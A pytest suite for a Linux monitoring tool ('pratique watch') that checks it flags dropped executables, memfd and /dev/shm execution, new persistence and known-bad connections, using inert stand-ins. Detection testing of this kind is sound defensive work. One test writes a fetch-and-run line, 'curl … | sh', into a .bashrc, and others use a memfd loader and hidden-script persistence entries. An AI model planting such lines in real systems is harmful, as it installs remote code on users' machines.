"""`pratique watch` beside real processes: what should not be there is noticed, as root and as a plain account.

Everything here is inert: programs that sleep, files that start nothing, connections on the loopback.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from pratique import api
from pratique.adapters.watcher.connector import Connector
from tests.standins.watching import PLAIN, as_plain, can_be_plain, given, watching, words

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the watch runs on Linux alone")
NODE = shutil.which("node") or ""
SLEEP = shutil.which("sleep") or ""


@pytest.fixture(autouse=True)
def hang_up() -> Iterator[None]:
    """Programs that are started here get SIGHUP as usual, even where the tests were started with it ignored (nohup)."""
    former = signal.signal(signal.SIGHUP, signal.SIG_DFL)
    yield
    signal.signal(signal.SIGHUP, former)


def _connector() -> str:
    try:
        Connector().close()
    except OSError as error:
        return str(error)
    return ""


NO_CONNECTOR = _connector()
ACCOUNTS = ("own", "plain")
MEANS = ("connector", "poll")


@pytest.fixture
def home(open_folder: Path) -> Path:
    made = open_folder / "home"
    made.mkdir()
    made.chmod(0o777)
    return made


@pytest.fixture
def open_folder() -> Iterator[Path]:
    """A folder that every account may use, which those of pytest are not."""
    made = Path(tempfile.mkdtemp(prefix="pratique-watch-"))
    made.chmod(0o777)
    yield made
    shutil.rmtree(made)


@pytest.fixture
def dropped() -> Iterator[Path]:
    """Places in temporary folders for programs, which are gone afterwards."""
    place = Path(f"/tmp/pratique-watch-{os.getpid()}-{time.monotonic_ns()}")
    place.mkdir(mode=0o777)
    place.chmod(0o777)
    yield place
    shutil.rmtree(place)


def _before(account: str) -> list[str]:
    if account == "own":
        return []
    if not can_be_plain():
        pytest.skip("another account cannot start this Python")
    return as_plain()


def _means(means: str) -> str:
    if means == "connector" and NO_CONNECTOR:
        pytest.skip(f"the kernel tells no process events here: {NO_CONNECTOR}")
    return means


def _program(place: Path, name: str = "x") -> Path:
    path = place / name
    shutil.copyfile(SLEEP, path)
    path.chmod(0o755)
    return path


def _node(script: str, before: Sequence[str], home: Path) -> None:
    done = subprocess.run([*before, NODE, "-e", script], env=given(home), capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def _spawn(*argv: str) -> str:
    return f"require('child_process').spawnSync({json.dumps(argv[0])}, {json.dumps(list(argv[1:]))})"


@pytest.mark.skipif(not NODE, reason="node is not installed")
@pytest.mark.parametrize("account", ACCOUNTS)
@pytest.mark.parametrize("means", MEANS)
def test_a_dropped_program_below_node_is_noticed_and_named(means: str, account: str, home: Path, dropped: Path) -> None:
    before = _before(account)
    program = _program(dropped)
    with watching(home, "--means", _means(means), before=before) as watch:
        _node(_spawn(str(program), "0.8"), before, home)
        found = watch.wait("unattributed-drop", str(program))
        sums = watch.end()
    process = found["detection"]["process"]
    assert process["arguments"] == [str(program), "0.8"]
    assert process["executable"] == str(program)
    assert process["ancestors"][0]["name"] == "node"
    assert process["user"] == (PLAIN if before else os.geteuid())
    assert found["events"][0]["source"] == means
    assert found["events"][0]["path_class"] == "temporary"
    assert sums["ended"] == "SIGTERM"
    seen = {row["category"]: row["seen"] for row in sums["watch"]["categories"]}
    assert seen["process.start"] == ("all" if means == "connector" else "part")
    assert seen["network.name"] == "none"


@pytest.mark.skipif(not NODE, reason="node is not installed")
def test_an_interpreter_on_a_dropped_script_is_seen_by_its_script(home: Path, dropped: Path) -> None:
    script = dropped / "ld.py"
    script.write_text("import time\ntime.sleep(0.6)\n", "utf-8")
    with watching(home) as watch:
        _node(f"process.chdir({json.dumps(str(dropped))});{_spawn(sys.executable, script.name)}", [], home)
        found = watch.wait("unattributed-drop", str(script))
    assert found["detection"]["process"]["script"] == str(script)
    assert found["events"][0]["path"] == str(script)


@pytest.mark.parametrize("means", MEANS)
def test_a_program_out_of_shared_memory_and_one_whose_file_is_deleted(means: str, home: Path, dropped: Path) -> None:
    place = Path(f"/dev/shm/pratique-watch-{os.getpid()}")
    place.mkdir()
    running: list[subprocess.Popen[bytes]] = []
    try:
        with watching(home, "--means", _means(means)) as watch:
            running.append(subprocess.Popen([_program(place), "20"]))
            gone = _program(dropped)
            running.append(subprocess.Popen([gone, "20"]))
            watch.wait("exec-from-shared-memory", str(place))
            watch.wait("exec-from-temporary", str(gone))
            gone.unlink()
            found = watch.wait("deleted-executable", str(gone))
        assert found["detection"]["process"]["pid"] == running[1].pid
        assert found["detection"]["process"]["executable"] == f"{gone} (deleted)"
    finally:
        for process in running:
            process.kill()
            process.wait()
        shutil.rmtree(place)


def test_a_program_out_of_memory_is_noticed(home: Path) -> None:
    code = (
        "import os,sys\n"
        f"held=os.memfd_create('x');os.write(held,open({SLEEP!r},'rb').read())\n"
        "os.execve(held,['x','2'],{})\n"
    )
    runner = f"import subprocess,sys;subprocess.run([sys.executable,'-c',{code!r}],check=False)"
    with watching(home) as watch:
        subprocess.run([sys.executable, "-c", runner], check=True)
        found = watch.wait("deleted-child")
    assert found["events"][0]["path"].startswith("/memfd:x")
    assert found["detection"]["process"]["arguments"] == ["x", "2"]


@pytest.mark.skipif(not NODE, reason="node is not installed")
@pytest.mark.parametrize("account", ACCOUNTS)
def test_a_detached_grandchild_keeps_its_line_of_ancestors(account: str, home: Path, dropped: Path) -> None:
    before = _before(account)
    program = _program(dropped)
    line = f"sleep 0.5; nohup setsid {program} 2 > /dev/null 2>&1 &"
    with watching(home, "--means", _means("connector"), before=before) as watch:
        _node(
            f"require('child_process').spawn('/bin/sh', ['-c', {json.dumps(line)}], "
            "{detached: true, stdio: 'ignore'}).unref()",
            before,
            home,
        )
        found = watch.wait("unattributed-drop", str(program))
    assert "node" in [one["name"] for one in found["detection"]["process"]["ancestors"]]


UNIT = "[Service]\nExecStart=/usr/bin/python3 /tmp/.x/ld.py\n\n[Install]\nWantedBy=default.target\n"


@pytest.mark.parametrize("account", ACCOUNTS)
def test_what_newly_starts_by_itself_is_told_with_what_it_starts(account: str, home: Path, open_folder: Path) -> None:
    before = _before(account)
    project = open_folder / "shop"
    (project / ".git" / "hooks").mkdir(parents=True)
    rc = home / ".bashrc"
    rc.write_text("alias ll='ls -l'\n", "utf-8")
    with watching(home, "--project", project, before=before) as watch:
        unit = home / ".config" / "systemd" / "user" / "monitor.service"
        unit.parent.mkdir(parents=True)
        unit.write_text(UNIT, "utf-8")
        found = watch.wait("new-persistence-odd", str(unit))
        assert found["events"][0]["detail"]["mechanism"] == "systemd"
        assert "/tmp/.x/ld.py" in found["events"][0]["detail"]["starts"]
        assert len(found["events"][0]["sha256_after"]) == 64
        hook = project / ".git" / "hooks" / "pre-commit"
        hook.write_text("#!/bin/sh\nexit 0\n", "utf-8")
        watch.wait("new-persistence", str(hook))
        rc.write_text("alias ll='ls -l'\ncurl -s http://203.0.113.7/x | sh\n", "utf-8")
        watch.wait("new-persistence-odd", str(rc))
        (home / ".bash_history").write_text("ls\n", "utf-8")
        (project / "README.md").write_text("# shop\n", "utf-8")
        sums = watch.end()
    assert not [one for one in watch.records if ".bash_history" in json.dumps(one) or "README" in json.dumps(one)]
    assert sums["noticed"] == len(watch.rules())


def test_a_table_of_cron_and_a_hook_of_a_template_are_places_too(home: Path) -> None:
    template = home / ".git-templates" / "hooks"
    template.mkdir(parents=True)
    with watching(home) as watch:
        (template / "post-checkout").write_text("#!/bin/sh\nnode ~/.cache/.x/a.js\n", "utf-8")
        watch.wait("new-persistence-odd", "post-checkout")
    if os.geteuid() == 0 and Path("/etc/cron.d").is_dir():
        planted = Path(f"/etc/cron.d/pratique-test-{os.getpid()}")
        try:
            with watching(home) as watch:
                planted.write_text("# inert: its day never comes\n0 0 31 2 * root /tmp/pratique-nothing\n", "utf-8")
                found = watch.wait("new-persistence-odd", planted.name)
            assert found["events"][0]["detail"]["mechanism"] == "cron"
        finally:
            planted.unlink(missing_ok=True)


def _once(home: Path, *options: object) -> tuple[int, list[dict[str, Any]], str]:
    done = subprocess.run(
        words("--once", "--json", *options), env=given(home), capture_output=True, text=True, check=False
    )
    return done.returncode, [json.loads(line) for line in done.stdout.splitlines()], done.stderr


def test_once_remembers_in_its_state_and_nowhere_else(home: Path, tmp_path: Path) -> None:
    state = tmp_path / "state.json"
    options = ("--level", "medium", "--state", state)
    _, records, _ = _once(home, *options)
    assert not [one for one in records if one.get("detection", {}).get("rule", "").startswith("new-persistence")]
    unit = home / ".config" / "systemd" / "user" / "monitor.service"
    unit.parent.mkdir(parents=True)
    unit.write_text(UNIT, "utf-8")
    code, records, _ = _once(home, *options)
    assert code == 4
    assert [
        one["events"][0]["path"] for one in records if one.get("detection", {}).get("rule") == "new-persistence-odd"
    ]
    _, records, _ = _once(home, *options)
    assert not [one for one in records if one.get("detection", {}).get("rule") == "new-persistence-odd"]
    assert {path.name for path in tmp_path.iterdir()} == {"state.json"}
    assert {str(path.relative_to(home)) for path in home.rglob("*") if path.is_file()} == {
        ".config/systemd/user/monitor.service"
    }
    state.write_text("[]", "utf-8")
    code, _, told = _once(home, *options)
    assert code == 2
    assert "is no state of a watch" in told


def test_a_known_bad_address_is_noticed_whoever_reaches_it(home: Path, tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        file = _definition(tmp_path, ("c2", "url", f"hxxp://127.0.0[.]1:{port}/x"))
        code = f"import socket,time;held=socket.create_connection(('127.0.0.1',{port}));time.sleep(20)"
        with watching(home, "--incident", file) as watch:
            process = subprocess.Popen([sys.executable, "-c", code])
            try:
                found = watch.wait("known-bad-address")
            finally:
                process.kill()
                process.wait()
    event = found["events"][0]
    assert (event["address"], event["port"], event["source"]) == ("127.0.0.1", port, "poll")
    assert event["process"]["pid"] == process.pid
    assert (found["incident"], found["indicator"]) == ("standin", "c2")
    assert found["detection"]["level"] == "critical"


def test_what_an_open_incident_left_is_noticed_when_it_comes_back(home: Path, tmp_path: Path, dropped: Path) -> None:
    file = _definition(
        tmp_path,
        ("place", "file-path", "~/.local/share/standin/monitor.py"),
        ("line", "command-line", "*standin-fetch * product2*"),
    )
    left = home / ".local" / "share" / "standin" / "monitor.py"
    left.parent.mkdir(parents=True)
    left.write_text("pass\n", "utf-8")
    program = _program(dropped, "standin-fetch")
    with watching(home, "--incident", file) as watch:
        found = watch.wait("indicator-file")
        assert found["events"][0]["path"] == str(left)
        subprocess.run([program, "-s", "product2"], stderr=subprocess.DEVNULL, check=False)
        subprocess.run([program, "0.3", "product2", "0"], stderr=subprocess.DEVNULL, check=False)
        running = subprocess.Popen([sys.executable, "-c", "import time;time.sleep(9)", "x"])
        script = subprocess.Popen(["/bin/sh", "-c", f"{program} -x product2; sleep 2"], stderr=subprocess.DEVNULL)
        try:
            watch.wait("indicator-runs", "line")
        finally:
            for process in (running, script):
                process.kill()
                process.wait()


def _definition(folder: Path, *indicators: tuple[str, str, str]) -> Path:
    text = DEFINITION
    for name, kind, value in indicators:
        text += (
            f'\n[[indicators]]\nid = "{name}"\ntype = "{kind}"\nvalue = \'{value}\'\n'
            'confidence = "high"\nmeaning = "persisted"\nsources = ["test", "more"]\n'
        )
        if kind == "command-line":
            text += 'match = "glob"\n'
    path = folder / "standin.toml"
    path.write_text(text, "utf-8")
    return path


DEFINITION = """
id = "standin"
revision = 1
updated = 2026-11-20
title = "A stand-in for tests"
summary = "Nothing that exists."
status = "active"
completeness = "fixed"
listed_on = 2026-11-20

[[references]]
id = "test"
title = "this test"
kind = "vendor-report"

[[references]]
id = "more"
title = "this test once more"
kind = "vendor-report"

[[components]]
ecosystem = "npm"
name = "standin-of-a-test"
role = "payload"

[[components.versions]]
version = "1.0.0"

[[windows]]
start = 2026-01-01T00:00:00Z
basis = "observed"
source = "test"
"""


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT, signal.SIGHUP])
def test_signals_end_it_in_order(number: signal.Signals, home: Path) -> None:
    with watching(home) as watch:
        sums = watch.end(number)
        assert sums["ended"] == number.name
        assert watch.process.returncode == (130 if number is signal.SIGINT else 0)
        assert not [line for line in watch.told if "Traceback" in line]


def test_an_output_that_nobody_reads_ends_it_in_order(home: Path, dropped: Path) -> None:
    process = subprocess.Popen(words("--json"), stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=given(home))
    assert process.stdout is not None
    assert process.stderr is not None
    try:
        assert process.stderr.readline().startswith(b"watch: began")
        process.stdout.close()
        running = subprocess.Popen([_program(dropped), "3"])
        assert process.wait(20) == 1
        told = process.stderr.read().decode()
        running.kill()
        running.wait()
    finally:
        process.kill()
        process.wait()
        process.stderr.close()
    assert "Traceback" not in told
    assert "nobody reads its output any more" in told


def test_no_secret_of_a_command_line_is_written(home: Path, dropped: Path, tmp_path: Path) -> None:
    program = _program(dropped)
    events = tmp_path / "events.ndjson"
    secret = "s3cr3t-of-nobody"
    with watching(home, "--events", events) as watch:
        subprocess.run([program, "0.4", f"--token={secret}", f"https://ann:{secret}@registry.example/"], check=False)
        script = f"{program} 0.5; echo --password {secret} > /dev/null"
        subprocess.run(["/bin/sh", "-c", script], check=True)
        watch.wait("exec-from-temporary", str(program))
        watch.end()
    assert str(program) in events.read_text("utf-8")
    assert secret not in events.read_text("utf-8")
    assert secret not in json.dumps(watch.records)


def test_every_short_program_is_seen_and_those_too_short_to_read_are_counted(home: Path, tmp_path: Path) -> None:
    events = tmp_path / "events.ndjson"
    line = "i=0; while [ $i -lt 300 ]; do /bin/true; i=$((i+1)); done"
    with watching(home, "--means", _means("connector"), "--events", events) as watch:
        shell = subprocess.Popen(["/bin/sh", "-c", line])
        assert shell.wait(20) == 0
        sums = watch.end()
    seen = [json.loads(text) for text in events.read_text("utf-8").splitlines()[1:]]
    short = [one for one in seen if one["kind"] == "process.start" and one["process"].get("parent") == shell.pid]
    assert len(short) == 300
    unread = [one for one in short if one.get("detail", {}).get("unread")]
    assert sums.get("unread", 0) >= len(unread)
    told = sum(int(one["detail"]["count"]) for one in seen if one["kind"] == "guard.gap")
    assert told == sums.get("unread", 0)
    assert all(one["process"]["arguments"] == ["/bin/true"] for one in short if one not in unread)


@pytest.mark.skipif(not NODE, reason="node is not installed")
def test_what_was_learned_is_not_told_and_what_deviates_is(home: Path, tmp_path: Path, dropped: Path) -> None:
    baseline = tmp_path / "baseline.toml"
    program, other = _program(dropped, "known"), _program(dropped, "unknown")
    learning = subprocess.Popen(
        words("learn", "--out", baseline, "--for", "4", "--as", "laptop"),
        env=given(home), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    for _ in range(30):
        _node(_spawn(str(program), "0.1"), [], home)
        if learning.poll() is not None:
            break
    out, told = learning.communicate(timeout=20)
    assert learning.returncode in (0, 4), told
    assert "entries" in out
    text = baseline.read_text("utf-8")
    assert "# look: runs out of a temporary folder" in text
    assert 'seen = ["laptop"]' in text
    name = f"/tmp/*/{program.name}"
    assert name in text, text
    with watching(home, "--baseline", baseline, "--means", _means("connector")) as watch:
        _node(_spawn(str(program), "0.3"), [], home)
        _node(_spawn(str(other), "0.3"), [], home)
        found = watch.wait("new-child", str(other))
        watch.wait("unattributed-drop", str(other))
        sums = watch.end()
    assert found["detection"]["level"] == "medium"
    assert not [one for one in watch.records if "detection" in one and str(program) in json.dumps(one)]
    assert sums["silenced"] >= 1


def test_a_baseline_that_cannot_be_used_is_said_before_anything_is_watched(home: Path, tmp_path: Path) -> None:
    bad = tmp_path / "bad.toml"
    bad.write_text('schema = "pratique.baseline/1"\n[[normal]]\nparent = "npm"\nchild = "*"\n', "utf-8")
    for words_of in (("--for", "1", "--baseline", bad), ("lint", bad), ("learn", "--out", bad, "--for", "1")):
        done = subprocess.run(
            words(*words_of), env=given(home), capture_output=True, text=True, check=False, timeout=60
        )
        assert done.returncode == 2
        assert f"{bad}: entry 1 excepts every program" in done.stderr
        assert "Traceback" not in done.stderr
    assert bad.read_text("utf-8").count("[[normal]]") == 1


def test_the_doctor_says_what_a_watch_would_see_here() -> None:
    said = {finding.what: finding.level for finding in api.doctor().findings if finding.what.startswith("watch: ")}
    assert len(said) == 3
    told = "watch: the kernel tells of every process that begins"
    assert said.get(told) == (None if NO_CONNECTOR else "ok")
    inside = subprocess.run(
        ["unshare", "--user", "--pid", "--fork", "--mount-proc", "--map-root-user", sys.executable, "-c",
         "from pratique import api; print([one.what for one in api.doctor().findings if 'watch: ' in one.what])"],
        env=given(Path.home()), capture_output=True, text=True, check=False,
    )  # fmt: skip
    if inside.returncode:
        pytest.skip(f"no namespaces can be had here: {inside.stderr.strip()[-80:]}")
    assert "short ones are missed" in inside.stdout


def test_without_the_kernels_events_it_polls_and_says_so(home: Path, dropped: Path) -> None:
    apart = ["unshare", "--user", "--map-root-user", "--pid", "--fork", "--mount-proc"]
    probe = subprocess.run([*apart, "true"], capture_output=True, check=False)
    if probe.returncode:
        pytest.skip("no namespaces can be had here")
    program = _program(dropped)
    told = home / "told"
    begun = f"i=0; until grep -q began {told} || [ $i -gt 100 ]; do sleep 0.1; i=$((i+1)); done"
    line = f"{shlex.join(words('--for', '4', '--json'))} 2> {told} & watch=$!; {begun}; {program} 1; wait $watch"
    done = subprocess.run(
        [*apart, "/bin/sh", "-c", line], env=given(home), capture_output=True, text=True, check=False, timeout=30
    )
    assert "the list of processes" in told.read_text("utf-8").splitlines()[0]
    records = [json.loads(text) for text in done.stdout.splitlines()]
    found = next(one for one in records[:-1] if one["detection"]["rule"] == "exec-from-temporary")
    assert found["events"][0]["source"] == "poll"
    assert found["events"][0]["path"] == str(program)
    assert done.returncode == 4
    asked = [*apart, *words("--for", "1", "--means", "connector")]
    refused = subprocess.run(asked, env=given(home), capture_output=True, text=True, check=False, timeout=30)
    assert refused.returncode == 2
    assert "nothing can be watched here" in refused.stderr
